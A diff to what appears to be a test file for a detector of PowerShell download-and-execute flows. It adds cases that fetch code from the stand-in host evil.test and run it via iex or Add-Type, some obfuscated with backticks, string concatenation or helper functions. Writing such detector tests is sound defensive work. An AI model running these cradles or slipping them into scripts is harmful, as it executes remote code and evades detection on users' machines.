@@ -27,6 +27,15 @@ describe("a download that is run is a flow", () => {
       "$u = 'http://evil' + '.test'\n$s = (New-Object Net.WebClient).DownloadString($u)\nInvoke-Expression $s",
       "3: network evil.test > execute interpreter iex",
     ],
+    [
+      "function Get-It($u) { (iwr $u).Content }\n$x = Get-It 'http://evil.test'\niex $x",
+      "3: network evil.test > execute interpreter iex",
+    ],
+    [
+      "function Get-It {\n  param($Where)\n  irm $Where\n}\niex (Get-It -Where http://evil.test)",
+      "5: network evil.test > execute interpreter iex",
+    ],
+    ["Add-Type -TypeDefinition (irm http://evil.test)", "1: network evil.test > execute eval Add-Type"],
     ["i`w`r http://evil.test | I`EX", "1: network evil.test > execute interpreter iex"],
     ["& ('i'+'ex') (irm http://evil.test)", "1: network evil.test > execute interpreter iex"],
     [
